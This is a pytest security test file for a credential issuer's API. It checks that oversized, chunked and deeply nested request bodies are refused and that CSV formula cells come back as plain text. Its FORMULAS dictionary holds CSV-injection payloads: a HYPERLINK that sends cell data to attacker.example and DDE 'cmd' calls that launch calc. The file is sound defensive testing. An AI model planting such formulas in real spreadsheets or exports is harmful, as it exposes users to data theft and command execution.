"""Hostile request bodies on the HTTP API (OWASP ASVS V5 / V13): size, nesting, CSV formulas."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import pytest

from issuer import worker
from keys import base64url
from tests.issuer.conftest import ACHIEVEMENT, Env

ONE_MIB = 1024 * 1024
FORMULAS = {
    "given_name": '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "family_name": "+cmd|' /C calc'!A0",
    "student_number": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _achievement(env: Env) -> str:
    response = env.client.post(
        f"/issuers/{env.slug}/achievements", json=ACHIEVEMENT, headers=env.issuing
    )
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_csv_formula_cells_are_stored_and_issued_as_text(env: Env) -> None:
    """CSV injection: cells starting with = + @ are data; they come back byte for byte."""
    achievement = _achievement(env)
    header = "row_key,email," + ",".join(FORMULAS) + "\n"
    row = "r-1,aino@example.fi," + ",".join(_csv_cell(v) for v in FORMULAS.values()) + "\n"
    created = env.client.post(
        f"/issuers/{env.slug}/batches",
        params={"achievement_id": achievement, "formats": ["sd-jwt-vc"]},
        content=(header + row).encode(),
        headers={**env.issuing, "content-type": "text/csv"},
    )
    assert created.status_code == 202, created.text
    batch = _wait_until_done(env, created.json()["id"])
    [done] = batch["rows"]
    credential = env.client.get(
        f"/issuers/{env.slug}/credentials/{done['credential_id']}", headers=env.issuing
    ).json()
    disclosed = _disclosed(credential["formats"]["sd-jwt-vc"])
    assert {name: disclosed[name] for name in FORMULAS} == FORMULAS


def _wait_until_done(env: Env, batch_id: str) -> dict[str, Any]:
    context = env.client.app.state.issuer  # type: ignore[attr-defined]
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        worker.drain(context, owner="security-test")
        batch = env.client.get(
            f"/issuers/{env.slug}/batches/{batch_id}", headers=env.issuing
        ).json()
        if batch["state"] == "done":
            return dict(batch)
        time.sleep(0.05)
    raise AssertionError(f"batch {batch_id} did not finish: {batch}")


def _disclosed(token: str) -> dict[str, Any]:
    values: dict[str, Any] = {}
    for part in token.split("~")[1:]:
        if part:
            decoded = json.loads(base64url.decode(part))
            if len(decoded) == 3:
                values[decoded[1]] = decoded[2]
    return values


def test_oversized_body_is_refused_by_content_length(env: Env) -> None:
    body = json.dumps({**ACHIEVEMENT, "description": {"en": "x" * (ONE_MIB + 1)}}).encode()
    response = env.client.post(
        f"/issuers/{env.slug}/achievements",
        content=body,
        headers={**env.issuing, "content-type": "application/json"},
    )
    assert (response.status_code, response.json()["code"]) == (413, "payload_too_large")


def test_oversized_chunked_body_is_refused_while_streaming(env: Env) -> None:
    """No Content-Length to trust: the guard counts the bytes as they arrive."""

    def chunks() -> Iterator[bytes]:
        yield b'{"name": {"en": "'
        for _ in range(20):
            yield b"x" * 65536
        yield b'"}}'

    response = env.client.post(
        f"/issuers/{env.slug}/achievements",
        content=chunks(),
        headers={**env.issuing, "content-type": "application/json"},
    )
    assert (response.status_code, response.json()["code"]) == (413, "payload_too_large")


def test_oversized_verifier_upload_is_refused(env: Env) -> None:
    response = env.client.post(
        "/verifier/verify",
        content=b"{" + b" " * (ONE_MIB + 1) + b"}",
        headers={"content-type": "application/json"},
    )
    assert (response.status_code, response.json()["code"]) == (413, "payload_too_large")


@pytest.mark.parametrize("depth", [5000, 100_000])
def test_deeply_nested_json_body_is_refused_on_the_issuer_api(env: Env, depth: int) -> None:
    """Nesting past the parser's recursion limit: a 400 problem, no 500, no stack trace."""
    nested = '{"a":' * depth + "1" + "}" * depth
    body = '{"achievement_id": "x", "recipient": {"email": "a@example.fi"}, "results": ' + nested
    response = env.client.post(
        f"/issuers/{env.slug}/credentials",
        content=(body + "}").encode(),
        headers={**env.issuing, "content-type": "application/json"},
    )
    assert (response.status_code, response.json()["code"]) == (400, "bad_request")
    assert "Recursion" not in response.text


def test_deeply_nested_json_body_is_a_named_failure_on_the_verifier(env: Env) -> None:
    response = env.client.post(
        "/verifier/verify",
        content=b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        headers={"content-type": "application/json"},
    )
    assert response.status_code == 200
    format_check = response.json()["checks"][0]
    assert (format_check["id"], format_check["status"], format_check["code"]) == (
        "format",
        "failed",
        "malformed_json",
    )
